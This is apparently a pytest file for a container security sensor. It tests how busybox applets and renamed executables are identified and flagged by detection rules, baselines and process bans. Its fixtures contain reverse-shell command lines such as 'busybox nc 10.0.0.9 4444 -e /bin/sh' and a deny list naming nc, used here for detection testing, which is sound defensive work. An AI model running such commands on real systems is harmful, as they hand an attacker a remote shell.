"""Multi-call binaries are named by the applet they run, for rules, baselines and bans; a name that
is not the file run is marked (issue 21 item 2). procfs and the container root are tmp_path trees."""

from __future__ import annotations

import os
from pathlib import Path

from models.engine import ModelEngine
from rules.engine import RuleEngine, default_rule_files
from rules.fields import FIELDS
from rules.loader import load_files
from rules.policy import PolicyChecker, PolicySet
from sensor.agent.cli import event_json, event_line
from sensor.containers import CgroupIndex
from sensor.enrich import Enricher
from sensor.events import NAME_MISMATCH, Event
from sensor.procfacts import ProcFacts, applet_name
from sensor.proctable import ProcessTable
from sensor.runtime import ContainerMeta

CID = "b" * 64
KEY = "sha256:beef"


class FakeRuntime:
    def inspect(self, container_id: str) -> ContainerMeta | None:
        return ContainerMeta(container_id, "web-1", "busybox:1.36", KEY)

    def find(self, id_or_name: str) -> ContainerMeta | None:
        return None

    def stats(self) -> dict[str, int]:
        return {}


def busybox_root(tmp_path: Path) -> Path:
    """A busybox image: /bin/busybox, hard links /bin/ls and /bin/sh, a symlink /bin/nc; and an
    ordinary program /bin/sleep of its own."""
    root = tmp_path / "rootfs"
    (root / "bin").mkdir(parents=True)
    (root / "bin" / "busybox").write_bytes(b"\x7fELF busybox")
    os.link(root / "bin" / "busybox", root / "bin" / "ls")
    os.link(root / "bin" / "busybox", root / "bin" / "sh")
    os.symlink("/bin/busybox", root / "bin" / "nc")  # absolute: followed inside the root
    (root / "bin" / "sleep").write_bytes(b"\x7fELF sleep")
    return root


def proc(procfs: Path, pid: int, root: Path, exe: str) -> None:
    d = procfs / str(pid)
    d.mkdir(parents=True)
    (d / "stat").write_text(f"{pid} (x) S 1 0 0")
    os.symlink(root, d / "root")
    os.symlink(root / os.path.realpath(root / exe.lstrip("/")).removeprefix(str(root)).lstrip("/"), d / "exe")


def exec_ev(pid: int, exe: str, args: tuple[str, ...], **kw: object) -> Event:
    return Event("exec", 1, pid=pid, comm=exe.rsplit("/", 1)[-1][:15], exe=exe, args=args, **kw)  # type: ignore[arg-type]


def test_applet_name_follows_busybox_rules() -> None:
    assert applet_name(("busybox", "nc", "1.2.3.4")) == "nc"
    assert applet_name(("/bin/busybox", "/bin/nc")) == "nc"
    assert applet_name(("nc", "-l")) == "nc"
    assert applet_name(("-sh",)) == "sh"  # a login shell
    assert applet_name(("busybox",)) == "" and applet_name(("busybox", "--list")) == ""
    assert applet_name(()) == ""


def test_every_way_of_starting_busybox_nc_is_nc(tmp_path: Path) -> None:
    root = busybox_root(tmp_path)
    procfs = tmp_path / "proc"
    for pid, exe in ((10, "/bin/busybox"), (11, "/bin/nc"), (12, "/bin/ls"), (13, "/bin/sleep"), (14, "/bin/sh")):
        proc(procfs, pid, root, exe)
    facts = ProcFacts(procfs)
    direct = facts.exec_event(exec_ev(10, "/bin/busybox", ("busybox", "nc", "10.0.0.9", "4444", "-e", "/bin/sh")),
                              KEY, True)
    assert (direct.comm, direct.exe, direct.path) == ("nc", "/bin/nc", "/bin/busybox")
    assert direct.flags & NAME_MISMATCH
    link = facts.exec_event(exec_ev(11, "/bin/nc", ("nc", "10.0.0.9", "4444")), KEY, True)
    assert (link.comm, link.exe, link.flags & NAME_MISMATCH) == ("nc", "/bin/nc", 0)  # its own name: nothing to show
    renamed = facts.exec_event(exec_ev(12, "/bin/ls", ("nc", "10.0.0.9", "4444")), KEY, True)  # exec -a nc /bin/ls
    assert (renamed.comm, renamed.exe, renamed.path) == ("nc", "/bin/nc", "/bin/ls")
    assert renamed.flags & NAME_MISMATCH
    plain = facts.exec_event(exec_ev(13, "/bin/sleep", ("nginx", "60")), KEY, True)  # exec -a nginx sleep 60
    assert (plain.comm, plain.exe, plain.path) == ("sleep", "/bin/sleep", "")  # its file's name stays
    assert plain.flags & NAME_MISMATCH
    login = facts.exec_event(exec_ev(14, "/bin/sh", ("-sh",)), KEY, True)
    assert (login.comm, login.exe, login.flags) == ("sh", "/bin/sh", 0)
    gone = facts.exec_event(exec_ev(99, "/bin/ls", ("busybox", "nc")), KEY, True)  # gone: the image's answer
    assert gone.comm == "nc" and facts.stats()["applets_named"] == 3


def test_rules_baselines_and_policy_see_the_applet(tmp_path: Path) -> None:
    cg = tmp_path / "cg"
    (cg / "docker" / CID).mkdir(parents=True)
    procfs = tmp_path / "proc"
    root = busybox_root(tmp_path)
    enr = Enricher(CgroupIndex(cg, rescan_ms=0), FakeRuntime(), ProcessTable(procfs))
    cgid = os.stat(cg / "docker" / CID).st_ino
    proc(procfs, 20, root, "/bin/nc")
    proc(procfs, 21, root, "/bin/busybox")
    proc(procfs, 22, root, "/bin/busybox")
    learned = enr.enrich(exec_ev(20, "/bin/nc", ("nc", "-l", "-p", "80"), cgroup_id=cgid))
    shell = enr.enrich(exec_ev(21, "/bin/busybox", ("busybox", "nc", "10.0.0.9", "4444", "-e", "/bin/sh"),
                               cgroup_id=cgid))
    sh = enr.enrich(exec_ev(22, "/bin/busybox", ("busybox", "sh", "-c", "true"), cgroup_id=cgid))
    assert sh.exe == "/bin/sh" and sh.comm == "sh"
    models = ModelEngine()
    models.handle(learned)
    models.get(learned.image_key).set_mode("alert", "test", 2)
    assert "new_process" not in [f.kind for f in models.handle(shell)]  # the same nc the baseline knows
    assert "new_process" in [f.kind for f in models.handle(sh)]
    hits = {f.rule: f.priority for f in RuleEngine(load_files(default_rule_files())).handle(shell)}
    assert hits.get("Reverse Shell in Container") == "CRITICAL"
    assert "busybox nc 10.0.0.9 4444 -e /bin/sh" in FIELDS["proc.cmdline"].get(shell)
    assert FIELDS["proc.name_mismatch"].get(shell) and FIELDS["proc.exe_file"].get(shell) == "/bin/busybox"
    assert not FIELDS["proc.name_mismatch"].get(learned) and FIELDS["proc.exe_file"].get(learned) == "/bin/nc"
    pol = PolicySet.from_dict({"default": {"mode": "enforce", "banned_processes": ["nc"]}})
    assert PolicyChecker(pol).handle(shell) and not PolicyChecker(pol).handle(sh)
    assert event_json(shell)["name_mismatch"] == {"file": "/bin/busybox", "argv0": "busybox"}
    assert "[file /bin/busybox]" in event_line(shell)


def test_a_gone_process_whose_parent_is_the_runtime_is_named_through_its_container(tmp_path: Path) -> None:
    """docker exec c sh -c '(exec -a nc /bin/ls 127.0.0.1 9 -e /bin/sh)': the shell's pid execs ls
    as nc, which exits at once (refused); its parent is the runtime, outside the container, whose
    root has no busybox. Another live process of the container (its init) is the way in."""
    root, host = busybox_root(tmp_path), tmp_path / "host"
    (host / "bin").mkdir(parents=True)
    (host / "bin" / "ls").write_bytes(b"\x7fELF coreutils ls")  # the host's ls is no busybox
    procfs = tmp_path / "proc"
    proc(procfs, 10, root, "/bin/sleep")  # the container's init, alive
    proc(procfs, 5, host, "/bin/ls")  # the runtime's shim, on the host
    facts = ProcFacts(procfs)
    facts.exec_event(exec_ev(10, "/bin/sleep", ("sleep", "3600"), cgroup_id=77, ppid=5), KEY, True)
    gone = facts.exec_event(exec_ev(11, "/bin/ls", ("nc", "127.0.0.1", "9", "-e", "/bin/sh"), cgroup_id=77, ppid=5),
                            KEY, True)
    assert (gone.comm, gone.exe, gone.path) == ("nc", "/bin/nc", "/bin/ls") and gone.flags & NAME_MISMATCH
    hits = {f.rule for f in RuleEngine(load_files(default_rule_files())).handle(
        gone.replace(container_id=CID, image="busybox:1.36"))}
    assert "Reverse Shell in Container" in hits
    # the sensor started after the container: no member seen yet, its cgroup says who is in it
    fresh = ProcFacts(procfs)
    fresh.members_of = lambda cgroup_id: [11, 10] if cgroup_id == 77 else []
    late = fresh.exec_event(exec_ev(11, "/bin/ls", ("nc", "127.0.0.1", "9", "-e", "/bin/sh"), cgroup_id=77, ppid=5),
                            KEY, True)
    assert (late.comm, late.exe) == ("nc", "/bin/nc")
